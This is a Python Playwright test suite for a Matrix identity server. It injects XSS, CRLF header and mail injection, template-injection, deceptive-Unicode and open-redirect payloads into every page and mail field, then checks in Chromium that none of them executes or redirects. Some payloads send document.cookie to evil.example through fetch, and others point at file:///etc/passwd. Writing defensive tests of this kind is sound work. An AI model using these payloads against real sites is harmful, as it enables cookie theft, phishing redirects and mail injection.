"""Pages and mails in Chromium, with what attackers would like to see on them in every field, parameter and value.

Whatever a stranger may put in is put in everywhere, and each answer is shown by Chromium with its own headers, and once more
with its policy ignored, as if that failed. Nothing of it may become markup: pages are built of the same elements with the same
attributes as with harmless values. Nothing runs, nothing is loaded, and no link or redirect leads elsewhere than it says.
"""

from __future__ import annotations

import random
from collections import defaultdict
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from functools import partial
from html import unescape
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote, urlencode

import pytest
import pytest_asyncio
from playwright.async_api import Browser, BrowserContext, Dialog, Route

from identity_server.rendering.headers import BadRecipient
from identity_server.rendering.pages import host_of
from tests.e2e.processes import PATIENCE_SECONDS
from tests.fire.report import Proof
from tests.flows.test_invites import settle
from tests.rendering.kit import make_mails
from tests.support.chromium import chromium
from tests.support.databases import read_everything
from tests.support.harness import SECRET, Harness, Reply, User, running

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

BASE: Final = "/_matrix/identity"
SITE: Final = "https://id.example.org"
GOOD: Final = "good.example"

_RUN = "window.owned=1;alert(1);fetch('https://evil.example/?'+document.cookie)"
PAYLOADS: Final = (
    # HTML and scripts
    f"<script>{_RUN}</script>",
    f"</title></style></script><script>{_RUN}</script>",
    f"<svg/onload={_RUN.replace(chr(39), '`')}>",
    f'<img/src="x"/onerror="{_RUN}">',
    f'<iframe/srcdoc="<script>{_RUN}</script>">',
    "<math><mtext><table><mglyph><style><!--</style><img/title='--&gt;&lt;img/src=1/onerror=window.owned=1&gt;'>",
    '<base/href="https://evil.example/"><link/rel="stylesheet"/href="https://evil.example/x.css">',
    '<meta/http-equiv="refresh"/content="0;url=https://evil.example/">',
    '<form/action="https://evil.example/"><button>OK</button><input/name="token">',
    "--><!--<script>window.owned=1</script>-->",
    "<![CDATA[<script>window.owned=1</script>]]>",
    # Out of an attribute
    f'"/onmouseover="{_RUN}"/autofocus/onfocus="{_RUN}',
    f"'/onmouseover='{_RUN.replace(chr(39), '`')}'/autofocus/onfocus='window.owned=1",
    '"><script>window.owned=1</script>',
    "`-alert(1)-`",
    "&quot;&gt;&lt;script&gt;window.owned=1&lt;/script&gt;",
    "&#60;img/src='x'/onerror='window.owned=1'&#62;",
    # URLs
    f"javascript:{_RUN}//",
    "JaVa\tScRiPt:window.owned=1",
    "data:text/html,<script>window.owned=1</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    'https://evil.example/"><script>window.owned=1</script>',
    # Templates, formats, styles
    "{{7*7}}{%for(x)in(y)%}{{config}}{{''.__class__.__mro__}}{#",
    "${7*7}#{7*7}<%=7*7%>%(sender)s{0.__class__}%s%n%x",
    "}*{background:url(https://evil.example/)}</style><script>window.owned=1</script>",
    "</style><style>@import'https://evil.example/x.css';",
    # Text that isn't what it seems
    "\u202egro.elpmaxe\u202c\u2066moc\u2069",
    "a\u200bl\u200ci\u200dc\ufeffe\u2060",
    "\u0430l\u0456\u0441\u0435\uff1cscript\uff1ewindow.owned=1\uff1c/script\uff1e",
    "\u00adwww\u3002evil\uff0eexample\uff0f",
    "\ud83d\ude00\U000e0001\U000f0000\ufffe",
    # Lines, controls, lengths
    "x\r\nSet-Cookie: owned=1\r\nLocation: https://evil.example/\r\n\r\n<script>window.owned=1</script>",
    "x\nBcc: mallory@evil.example\n\n<script>window.owned=1</script>",
    "\x00<script>window.owned=1</script>\x1b[31m\x7f\x85\u2028\u2029",
    "=?utf-8?q?=0d=0aBcc:_mallory=40evil.example?=",
    "<b>" + "A" * 1900 + f"<script>{_RUN}</script>",
    "%3Cscript%3Ewindow.owned%3D1%3C%2Fscript%3E",
    "+ADw-script+AD4-window.owned=1+ADw-/script+AD4-",
    "..%2f..%2f<script>window.owned=1</script>",
)
HARMLESS: Final = ("plain words & more", "plain@example.com", "https://plain.example/x", "")

# Every element with the names of its attributes: what a page is built of.
SKELETON = """() => [...document.querySelectorAll('*')].map(
  e => e.tagName + '[' + [...e.attributes].map(a => a.name).sort() + ']')"""
LINKS = """() => [...document.querySelectorAll('[href],[src],[action],[formaction],[srcset],[content*="url"]')].map(
  e => e.href || e.src || e.action || e.content)"""
BROWSER_HOSTS = """([urls, base]) => urls.map(url => {
  try { const found = new URL(url, base); return [found.protocol, found.host, found.username + found.password] }
  catch { return null } })"""


@dataclass(frozen=True, slots=True)
class Shown:
    """An answer that a browser may be given to show."""

    name: str
    status: int
    headers: dict[str, str]
    body: bytes

    @property
    def is_mail(self) -> bool:
        return self.name.startswith("mail ")


@dataclass
class Watched:
    """What happened in a browser."""

    happened: list[str] = field(default_factory=list)


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with chromium() as browser:
        yield browser


@asynccontextmanager
async def watching(browser: Browser, *, ignores_policy: bool) -> AsyncIterator[tuple[BrowserContext, Watched]]:
    """A browser that reports whatever a page does, and in which nobody but the site can be reached."""
    # What isn't answered by a route goes to a proxy that isn't there.
    context = await browser.new_context(bypass_csp=ignores_policy, proxy={"server": "http://127.0.0.1:9"})
    context.set_default_timeout(PATIENCE_SECONDS * 1000)
    watched = Watched()
    note = watched.happened.append

    async def dismiss(dialog: Dialog) -> None:
        note(f"dialog {dialog.message}")
        await dialog.dismiss()

    context.on("dialog", dismiss)
    context.on("weberror", lambda error: note(f"error {error.error}"))
    context.on(
        "console", lambda message: note(f"console {message.text}") if "status of" not in message.text else None
    )
    context.on("request", lambda request: note(f"request {request.url}") if _is_foreign(request.url) else None)
    context.on("page", lambda _: note("a window") if len(context.pages) > 1 else None)
    try:
        yield context, watched
    finally:
        await context.close()


def _is_foreign(url: str) -> bool:
    return not url.startswith((f"{SITE}/", "about:blank"))


# --- every page with every payload ----------------------------------------------------------


class Visitor:
    """Puts one value into everything that the server takes, and keeps every page and mail that comes of it."""

    def __init__(self, server: Harness, value: str, number: int) -> None:
        self._server = server
        self._value = value
        self._number = number
        self.shown: list[Shown] = []
        self.refused = 0

    async def go_everywhere(self) -> None:
        """Ask for every page."""
        user = await self._user()
        await self._pages_of_links()
        await self._privacy_page()
        await self._confirm(user)
        await self._invite(user)
        await self._held()

    def _keep(self, name: str, reply: Reply) -> Reply:
        self.refused += reply.status >= 400
        assert reply.status < 500, name
        assert "Set-Cookie" not in reply.headers, name
        kind = reply.headers.get("Content-Type", "").partition(";")[0]
        assert kind in {"text/html", "application/json"} or (reply.status in {302, 303} and reply.body == b"")
        if kind == "text/html":
            assert reply.headers["X-Content-Type-Options"] == "nosniff", name
            self.shown.append(Shown(name, reply.status, dict(reply.headers), reply.body))
        return reply

    async def _get(self, path: str, **query: str) -> Reply:
        headers = {"Accept-Language": _in_header(self._value)}
        # As it stands, and not as a well-behaved library would write it.
        where = f"{path}?{urlencode(query, errors='surrogatepass')}" if query else path
        return self._keep(path, await self._server.get(where, headers=headers))

    async def _post(self, path: str, **fields: str) -> Reply:
        query = urlencode({"brand": self._value, "lang": self._value}, errors="surrogatepass")
        data = urlencode(fields, errors="surrogatepass")
        headers = {
            "Accept-Language": _in_header(self._value),
            "Content-Type": "application/x-www-form-urlencoded",
        }
        return self._keep(path, await self._server.post(f"{path}?{query}", data=data, headers=headers))

    async def _user(self) -> User:
        """Somebody whose Matrix ID is the value, as far as it can be one."""
        localpart = "".join(each for each in self._value if each.isprintable() and each not in " :")[:180]
        return await registered(self._server, f"@{localpart or 'x'}{self._number}:example.org")

    async def _pages_of_links(self) -> None:
        value = self._value
        for path in ("confirm", "privacy", "privacy/open", "privacy/retention"):
            await self._get(f"{BASE}/{path}", token=value, lang=value, brand=value)
        for version in ("v2", "api/v1"):
            every = dict.fromkeys(("sid", "client_secret", "token", "nextLink", "next_link", "lang", "brand"), value)
            await self._get(f"{BASE}/{version}/validate/email/submitToken", **every)
        await self._get(f"{BASE}/v2/validate/msisdn/submitToken", sid=value, client_secret=value, token=value)
        # Slashes and braces, even encoded ones, would make it another path.
        part = quote("".join(each for each in value if each not in "/{}"), safe="", errors="surrogatepass") or "x"
        await self._get(f"{BASE}/terms/{part}/{part}/{part}")
        await self._get(f"{BASE}/terms/privacy_policy/1.2/en", lang=value, brand=value)
        await self._get(f"{BASE}/{part}", lang=value)

    async def _privacy_page(self) -> None:
        value = self._value
        await self._post(f"{BASE}/confirm", token=value, lang=value)
        await self._post(f"{BASE}/privacy", email=value, lang=value[:64])
        await self._post(f"{BASE}/privacy", email=_address(value, self._number))
        await self._post(f"{BASE}/privacy/phone", number=value, lang=value[:64])
        asked = await self._post(f"{BASE}/privacy/phone", number=f"+447700{900000 + self._number}")
        token = _token_in(asked)
        await self._post(f"{BASE}/privacy/code", token=token or value, code=value[:255], lang=value[:64])
        for path in ("code", "open", "show", "remove", "refuse", "allow", "download"):
            await self._post(
                f"{BASE}/privacy/{path}", token=value, lang=value, code=value, visibility=value, form=value
            )

    async def _confirm(self, user: User) -> None:
        """Asked for with the value, the page that confirms shows who has asked, what for, and what is next."""
        for number, link in enumerate((self._value, f"https://{GOOD}/{self._value}", "https://elsewhere.example/")):
            reply = await self._server.request_token(
                user,
                _address(self._value, 100 * self._number + number),
                next_link=link.encode("utf-8", "replace").decode()[:1990],
                headers={"Accept-Language": _in_header(self._value)},
            )
            if reply.status != 200:
                self.refused += 1
                continue
            token = self._server.mail.last_token
            await self._get(f"{BASE}/confirm", token=token, lang=self._value[:64], brand=self._value[:64])
            await self._post(f"{BASE}/confirm", token=token, lang=self._value[:64])
            proof = {"sid": reply.json["sid"], "client_secret": SECRET, "token": token}
            await self._get(f"{BASE}/v2/validate/email/submitToken", **proof, brand=self._value[:64])
            bound = await self._server.bind(user, reply.json["sid"])
            assert bound.status == 200, bound.json

    async def _invite(self, user: User) -> None:
        value = self._value.encode("utf-8", "replace").decode()
        names = ("room_name", "room_alias", "room_avatar_url", "room_join_rules", "room_type", "sender_display_name",
                 "sender_avatar_url", "guest_access_token", "guest_user_id", "org.matrix.web_client_location", "brand", "x")  # fmt: skip
        for room_type in ({}, {"room_type": "m.space", "org.matrix.web_client_location": f"https://{value}"}):
            body = {
                "medium": "email",
                "address": self._guest,
                "room_id": value[:200] or "!r",
                "sender": user.user_id,
                **dict.fromkeys(names, value),
                **room_type,
            }
            reply = await self._server.post("store-invite", body, as_=user)
            self.refused += reply.status != 200

    @property
    def _guest(self) -> str:
        return f"guest{self._number}@example.com"

    async def _held(self) -> None:
        """What is held about who was invited, on the page and in the files."""
        await self._post(f"{BASE}/privacy", email=self._guest)
        await settle(self._server)
        link = next(mail for mail in reversed(self._server.mail.sent) if mail.template == "privacy")
        assert link.to == self._guest
        token = link.variables["open_url"].partition("token=")[2].partition("&")[0]
        await self._get(f"{BASE}/privacy/open", token=token, lang=self._value[:64])
        # No language has control characters in its name.
        await self._post(f"{BASE}/privacy/open", token=token, lang=self._value[:64])
        held = await self._post(f"{BASE}/privacy/open", token=token, lang="en")
        assert held.status == 200
        for form in ("html", "json"):
            file = await self._server.post(
                f"{BASE}/privacy/download", data={"token": token, "form": form, "lang": "en"}
            )
            assert file.headers["Content-Disposition"].startswith("attachment")
            if form == "html":
                headers = {name: value for name, value in file.headers.items() if name != "Content-Disposition"}
                self.shown.append(Shown("the file of what is held", 200, headers, file.body))

    def mails(self, mails: Sequence[Any]) -> None:
        """Keep the HTML of mails, without any policy, as programs for mail show it."""
        writer = make_mails()
        for mail in mails:
            try:
                message = writer.render(mail).message
            except BadRecipient:
                # The relay is never asked to take it.
                self.refused += 1
                continue
            html = message.get_body(("html",))
            assert html is not None
            assert len(message.get_all("To", [])) == 1
            assert not {"bcc", "cc", "set-cookie", "location"} & {name.lower() for name in message.keys()}  # noqa: SIM118
            headers = {"Content-Type": "text/html; charset=utf-8"}
            self.shown.append(Shown(f"mail {mail.template}", 200, headers, html.get_content().encode()))


def _in_header(value: str) -> str:
    """What of a value can stand in a header at all."""
    return "".join(each for each in value if each.isascii() and each.isprintable())


def _address(value: str, number: int) -> str:
    """An address with as much of a value as one may hold."""
    local = "".join(each for each in value if each.isascii() and (each.isalnum() or each in "!#$%&'*+-/=?^_`{|}~"))
    return f"{local[:40] or 'x'}{number}@example.com"


def _token_in(reply: Reply) -> str | None:
    found = reply.body.decode().partition('name="token" value="')[2].partition('"')[0]
    return unescape(found) or None


async def answers_with(server: Harness, value: str, number: int) -> Visitor:
    visitor = Visitor(server, value, number)
    before = len(server.mail.sent)
    await visitor.go_everywhere()
    visitor.mails(server.mail.sent[before:])
    return visitor


@dataclass(frozen=True, slots=True)
class Seen:
    """How a page is built, and where it leads."""

    page: Shown
    built: tuple[str, ...]
    links: tuple[str, ...]


async def show_all(context: BrowserContext, shown: Sequence[Shown]) -> list[Seen]:
    """Show each page, and look at it."""
    tab = context.pages[0] if context.pages else await context.new_page()
    current: list[Shown] = []

    async def answer(route: Route) -> None:
        page = current[0]
        await route.fulfill(status=page.status, headers=page.headers, body=page.body)

    await context.unroute_all()
    await context.route(f"{SITE}/page", answer)
    found = []
    # What is the same to the letter needn't be looked at twice.
    different = {(page.body, page.headers.get("Content-Security-Policy")): page for page in shown}
    for page in different.values():
        current[:] = [page]
        await tab.goto(f"{SITE}/page", wait_until="load")
        # Whoever has the focus, the mouse and a moment.
        await tab.keyboard.press("Tab")
        await tab.mouse.move(40, 60)
        built, links = await tab.evaluate(f"() => [({SKELETON})(), ({LINKS})()]")
        assert await tab.evaluate("window.owned") is None, page.name
        found.append(Seen(page, tuple(built), tuple(links)))
    return found


async def registered(server: Harness, user_id: str) -> User:
    """Somebody who has accepted the terms, if there are any."""
    user = await server.register(user_id)
    offered = (await server.get("terms")).json["policies"]
    accepted = [policy["en"]["url"] for policy in offered.values()]
    assert (await server.post("terms", {"user_accepts": accepted}, as_=user)).status == 200
    return user


@pytest_asyncio.fixture(loop_scope="module")
async def pages_server(tmp_path: Path) -> AsyncIterator[Harness]:
    settings = {
        "EMAIL__EMAIL_NOTICES": "true",
        "GENERAL__TERMS_PATH": str(Path(__file__).parents[2] / "terms"),
    }
    async with running(tmp_path, settings=settings) as server:
        # The same value is put in as a secret and as what anybody may read.
        server.search_for_leaks = lambda: None  # type: ignore[method-assign]
        yield server


def wrong_links(seen: Seen) -> list[str]:
    """Links that lead neither to this server, nor where the page says."""
    wrong = []
    for link in seen.links:
        # What stands behind the # is of any length, and leads nobody elsewhere.
        host = host_of(link.partition("#")[0])
        is_ours = link.startswith((f"{SITE}/", "mailto:"))
        # Whoever invites says where their app is.
        is_app = seen.page.name == "mail invite" and host is not None
        is_named = host is not None and f"{host}" in unescape(seen.page.body.decode())
        if not (is_ours or is_app or (is_named and seen.page.name.endswith("submitToken"))):
            wrong.append(link)
    return wrong


async def test_no_value_becomes_markup_or_a_link(browser: Browser, pages_server: Harness, proof: Proof) -> None:
    payloads = PAYLOADS if proof.is_full else PAYLOADS[::8]
    harmless: list[Shown] = []
    hostile: list[Shown] = []
    refused = 0
    for number, value in enumerate((*HARMLESS, *payloads)):
        visitor = await answers_with(pages_server, value, number)
        (harmless if number < len(HARMLESS) else hostile).extend(visitor.shown)
        refused += visitor.refused
        pages_server.clock.advance(days=1)
    for ignores_policy in (False, True):
        async with watching(browser, ignores_policy=ignores_policy) as (context, watched):
            usual: dict[bool, set[str]] = defaultdict(set)
            for seen in await show_all(context, harmless):
                usual[seen.page.is_mail].update(seen.built)
            for seen in await show_all(context, hostile):
                assert set(seen.built) - usual[seen.page.is_mail] == set(), seen.page.name
                assert wrong_links(seen) == [], seen.page.name
            assert watched.happened == []
    names = {shown.name for shown in hostile}
    assert len([name for name in names if name.startswith("mail ")]) >= 4, names
    assert len(names) >= 15, names
    proof.record(
        f"{len(payloads)} payloads (markup, scripts, attributes, URLs, templates, deceptive Unicode, line breaks, lengths) in"
        " every field and parameter of every page and every value that pages and mails show; each shown in Chromium with its"
        " policy, and without",
        times=2 * len(hostile),
        outcome=f"{len(names)} kinds of pages and mails: none was built otherwise than with harmless values; no script ran,"
        " nothing was loaded, no window or dialog opened, no link led elsewhere than it said",
    )


async def test_markup_would_be_noticed(browser: Browser) -> None:
    """The payloads do what they are for where a page doesn't escape them."""
    happened: dict[str, list[str]] = {}
    async with watching(browser, ignores_policy=True) as (context, watched):
        tab = await context.new_page()
        for payload in PAYLOADS[:4]:
            watched.happened.clear()
            page = f"<!DOCTYPE html><title>x</title><p>{payload}</p>"
            await context.unroute_all()
            await context.route(f"{SITE}/page", partial(Route.fulfill, body=page, content_type="text/html"))
            await tab.goto(f"{SITE}/page", wait_until="load")
            happened[payload] = list(watched.happened)
    assert all(any(each.startswith("dialog") for each in happened[payload]) for payload in PAYLOADS[:4]), happened


# --- next_link ------------------------------------------------------------------------------

_TRICKS: Final = (
    "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example", "https:evil.example",
    "https:/evil.example", "https:///evil.example", "https:\\\\evil.example", "https:/\\evil.example", "http:evil.example",
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd", "blob:https://x",
    f"https://{GOOD}@evil.example", f"https://{GOOD}:443@evil.example/", f"https://{GOOD}%40evil.example",
    f"https://{GOOD}\\@evil.example", f"https://evil.example\\@{GOOD}", f"https://evil.example\\.{GOOD}",
    f"https://evil.example/@{GOOD}", f"https://evil.example#@{GOOD}", f"https://evil.example?@{GOOD}",
    f"https://evil.example;.{GOOD}", f"https://evil.example&.{GOOD}", f"https://evil.example%2f.{GOOD}",
    f"https://evil.example%00.{GOOD}", f"https://evil.example\x00.{GOOD}", f"https://evil.example\t.{GOOD}",
    f"https://evil.example\n.{GOOD}", f"https://evil.example\r\nLocation: https://{GOOD}", f"https://{GOOD}.evil.example",
    f"https://{GOOD}\u3002evil.example", f"https://{GOOD}\uff0eevil.example", f"https://{GOOD}\uff0fevil.example",
    f"https://evil.example\uff0f.{GOOD}", f"https://evil.example\uff03.{GOOD}", f"https://evil.example\u2048.{GOOD}",
    f"https://evil.example\u2100.{GOOD}", f"https://{GOOD}\u200b.evil.example", f"https://\u202e{GOOD}", "https://go\u00adod.example",
    "https://g\u043e\u043ed.example", "https://\u24d6\u24de\u24de\u24d3.example", "https://good.exa\u1e9fmple", "https://fa\u00df.example",
    f"https://{GOOD}.", f"https://{GOOD}..", f"https://.{GOOD}", f"https://{GOOD}:80@evil.example:443", f"https://{GOOD}:x@evil.example",
    f"https://{GOOD}:0", f"https://{GOOD}:65536", f"https://{GOOD}:0443/", f"https://[{GOOD}]/", "https://[::ffff:7f00:1]/",
    "https://[::1%25lo]/", "https://0x7f000001/", "https://2130706433/", "https://0177.1/", "https://127.1/", "https://127.0.0.1/",
    f"HTTPS://{GOOD.upper()}/", f"https://{GOOD}/\\evil.example", f"https://{GOOD}//evil.example", f"https://{GOOD}/..//evil.example",
    f"  https://{GOOD}/", f"https://{GOOD}/\r\nSet-Cookie: a=b", f"ht\ntps://{GOOD}/", f"https://{GOOD}/?next=https://evil.example",
    "https://", "https://?", "https://#", "https://@", "https://:443", "http://./", "x", "?", "#", "/", "",
)  # fmt: skip
_PIECES: Final = (
    "https:", "http:", "HTTPS:", "javascript:", "//", "/", "\\", "@", ":", ":443", ":80", "?", "#", ".", "%2e", "%2f", "%40", "%00",
    "\t", "\n", "\r", " ", "\u3002", "\uff0e", "\uff0f", "\uff20", "\u00ad", "\u200d", "\u2215", "\u0130", "\u00df", "\u212a",
    "[", "]", "::1", "127.1", "0x7f", "xn--", "evil.example", GOOD, GOOD, "evil", "user:pass",
)  # fmt: skip


def tricks(count: int) -> list[str]:
    """Links by hand, and as many put together at random from what parsers disagree on."""
    draw = random.Random("next_link")
    made = [
        "https://" * (draw.random() < 0.6) + "".join(draw.choices(_PIECES, k=draw.randint(2, 6)))
        for _ in range(count)
    ]
    return [*_TRICKS, *made]


async def test_this_server_and_a_browser_read_every_link_alike(browser: Browser, proof: Proof) -> None:
    """A link that this server takes for one to a host leads a browser to that host, and shows no other."""
    links = tricks(proof.rounds(quick=20_000, full=1_000_000))
    taken = 0
    async with watching(browser, ignores_policy=False) as (context, _):
        tab = await context.new_page()
        for first in range(0, len(links), 10_000):
            some = links[first : first + 10_000]
            for link, found in zip(some, await tab.evaluate(BROWSER_HOSTS, [some, SITE]), strict=True):
                host = host_of(link)
                if host is None:
                    continue
                taken += 1
                if found is None:
                    # To the browser it leads nowhere.
                    continue
                assert found[0] in {"http:", "https:"}, ascii(link)
                # An address is written anew: 127.1 is 127.0.0.1.
                assert found[1] == host or _is_number(host), (ascii(link), host, found)
                assert found[2] == "", ascii(link)
    assert taken > len(links) / 100
    proof.record(
        "Links that parsers of URLs disagree on, as next_link",
        times=len(links),
        outcome=f"{taken} were taken for a link to a host; Chromium goes to that very host with each of them",
    )


def _is_number(host: str) -> bool:
    last = host.partition(":")[0].rpartition(".")[2]
    return last[:1].isdigit() or host.startswith("[")


@pytest.mark.parametrize("whitelist", [GOOD, ""])
async def test_no_next_link_leads_elsewhere_than_allowed(
    browser: Browser, tmp_path: Path, whitelist: str, proof: Proof
) -> None:
    links = _TRICKS if proof.is_full else _TRICKS[::3]
    settings = {"GENERAL__NEXT_LINK_DOMAIN_WHITELIST": whitelist} if whitelist else {}
    redirected = 0
    async with (
        running(tmp_path, settings=settings) as server,
        watching(browser, ignores_policy=False) as (context, _),
    ):
        tab = await context.new_page()
        for number, link in enumerate(links):
            user = await server.register(f"@user{number}:example.org")
            server.clock.advance(minutes=5)
            for way in ("confirm", "submitToken"):
                asked = await server.request_token(user, f"{way}{number}@example.com", next_link=link)
                if asked.status == 400:
                    assert asked.errcode == "M_INVALID_PARAM"
                    continue
                token = server.mail.last_token
                if way == "confirm":
                    page = await server.get(f"{BASE}/confirm?token={token}")
                    named = (
                        host_of(link)
                        if host_of(link) and f"<bdi>{host_of(link)}</bdi>" in page.body.decode()
                        else None
                    )
                    answer = await server.post(
                        f"{BASE}/confirm", data={"token": token, "next_link": "https://evil.example"}
                    )
                else:
                    query = {
                        "sid": asked.json["sid"],
                        "client_secret": SECRET,
                        "token": token,
                        "nextLink": "https://evil.example",
                    }
                    named = host_of(link)
                    answer = await server.get(
                        "validate/email/submitToken?" + urlencode(query | {"next_link": "//evil.example"})
                    )
                location = answer.headers.get("Location")
                if location is None:
                    assert answer.status == 200
                    continue
                redirected += 1
                assert answer.headers["Referrer-Policy"] == "no-referrer"
                ((_, host, user_info),) = await tab.evaluate(BROWSER_HOSTS, [[location], SITE])
                assert user_info == ""
                if whitelist:
                    assert host.partition(":")[0] == whitelist, ascii(link)
                else:
                    assert named is not None, ascii(link)
                    assert host == named or _is_number(named), ascii(link)
    assert redirected
    proof.record(
        "A next_link made to deceive, by the button and by the specification's link, "
        + ("with a whitelist" if whitelist else "without a whitelist"),
        times=2 * len(links),
        outcome=f"{redirected} were followed, each "
        + ("to the one host that is allowed" if whitelist else "to the very host that the page had named"),
    )


# --- frames, and scanners of mail -----------------------------------------------------------


async def test_no_page_is_shown_in_a_frame(browser: Browser, pages_server: Harness, proof: Proof) -> None:
    visitor = await answers_with(pages_server, "Plain", 1)
    pages = [shown for shown in visitor.shown if not shown.name.startswith(("mail ", "the file"))]
    stranger = "https://evil.example/frame"
    async with watching(browser, ignores_policy=False) as (context, watched):
        tab = await context.new_page()
        current = pages[:1]
        await context.route(
            f"{SITE}/page",
            lambda route: route.fulfill(status=current[0].status, headers=current[0].headers, body=current[0].body),
        )
        frame = f"<iframe src='{SITE}/page'></iframe>"
        await context.route(stranger, lambda route: route.fulfill(body=frame, content_type="text/html"))
        for page in pages:
            current[:] = [page]
            await tab.goto(stranger, wait_until="load")
            (framed,) = tab.main_frame.child_frames
            assert "<main" not in await framed.content(), page.name
        refusals = [each for each in watched.happened if "frame-ancestors" in each]
        assert len(refusals) >= len(pages)
    proof.record(
        "Each page in a frame of a stranger's site, in Chromium",
        times=len(pages),
        outcome="none was shown",
    )


async def test_scanner_of_mail_changes_nothing(pages_server: Harness, proof: Proof) -> None:
    """Every link of every mail is asked for ten times, in every way that scanners and previews do."""
    server = pages_server
    user = await registered(server, "@alice:example.org")
    sid = (await server.request_token(user, "alice@example.com", next_link=f"https://{GOOD}/")).json["sid"]
    token = server.mail.last_token
    bound = await server.bound(user, "bound@example.com", secret="another_secret")
    assert bound
    await server.post(f"{BASE}/privacy", data={"email": "bound@example.com"})
    invite = {"medium": "email", "address": "guest@example.com", "room_id": "!r:x", "sender": user.user_id}
    await server.post("store-invite", invite, as_=user)
    await settle(server)
    links = sorted({link for mail in server.mail.sent for link in links_of(mail)})
    ours = [link for link in links if link.startswith(f"{SITE}/")]
    assert len(ours) >= 4
    before = read_everything(server.config.db.file)
    times = 0
    for link in ours:
        for _ in range(10):
            for method in ("GET", "HEAD", "OPTIONS"):
                reply = await server.request(method, link.removeprefix(SITE), headers={"Accept-Language": "de"})
                assert reply.status == 200, (method, link.partition("?")[0])
                times += 1
    assert read_everything(server.config.db.file) == before
    proof_of_session = f"3pid/getValidated3pid?sid={sid}&client_secret={SECRET}"
    assert (await server.get(proof_of_session, as_=user)).errcode == "M_SESSION_NOT_VALIDATED"

    # The specification's link, which isn't in our mails: to ask what is there isn't to follow it.
    query = urlencode({"sid": sid, "client_secret": SECRET, "token": token})
    for _ in range(10):
        for method in ("HEAD", "OPTIONS"):
            await server.request(method, f"{BASE}/v2/validate/email/submitToken?{query}")
    assert read_everything(server.config.db.file) == before
    # A person's click does it, and the tenth does no more than the first.
    assert (await server.post(f"{BASE}/confirm", data={"token": token})).status == 303
    assert (await server.get(proof_of_session, as_=user)).status == 200
    after = read_everything(server.config.db.file)
    for _ in range(10):
        assert (await server.get(f"{BASE}/v2/validate/email/submitToken?{query}")).status == 302
    assert read_everything(server.config.db.file) == after
    proof.record(
        f"A scanner asks for each of {len(ours)} links in mails ten times, by GET, HEAD and OPTIONS",
        times=times,
        outcome="no row of the database was changed; the person's click then did what it was for",
    )


def links_of(mail: Any) -> set[str]:
    """Every link of a mail's HTML and text."""
    message = make_mails().render(mail).message
    bodies = [message.get_body((kind,)) for kind in ("html", "plain")]
    texts = [unescape(body.get_content()) for body in bodies if body is not None]
    return {
        word
        for text in texts
        for word in text.replace('"', " ").replace("<", " ").replace(">", " ").split()
        if word.startswith("https://")
    }
